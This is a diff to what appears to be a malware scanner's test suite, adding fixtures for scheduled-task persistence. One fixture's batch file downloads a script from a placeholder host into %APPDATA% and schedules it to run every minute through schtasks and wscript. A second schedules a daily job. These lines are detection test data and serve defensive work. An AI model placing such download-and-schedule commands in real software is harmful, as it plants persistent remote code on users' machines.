@@ -141,6 +141,25 @@ examine(persists, {
       weight: 'strong',
       says: ['NODE_OPTIONS'],
     },
+    {
+      when: 'a script puts a download into the schedule, when it is called',
+      files: {
+        'index.js': `${FS} exports.toast = text => cp.execFile('cmd.exe', ['/c', path.join(__dirname, 'bin', 'toast.bat'), text])`,
+        'bin/toast.bat':
+          '@echo off\r\ncurl -s -o "%APPDATA%\\helper.js" https://toast.invalid/h.js\r\nschtasks /create /f /tn "Helper" /sc minute /tr "wscript.exe //B \\"%APPDATA%\\helper.js\\""\r\n',
+      },
+      weight: 'strong',
+      says: ['so that they start a download'],
+    },
+    {
+      when: 'a script puts a program of its own into the schedule, when it is called',
+      files: {
+        'index.js': `${FS} exports.daily = () => cp.execFile('cmd.exe', ['/c', path.join(__dirname, 'bin', 'daily.bat')])`,
+        'bin/daily.bat':
+          'curl -s -o "%TEMP%\\news.json" https://news.invalid/n.json\r\nschtasks /create /f /tn "Daily" /sc daily /tr "node %~dp0daily.js"\r\n',
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
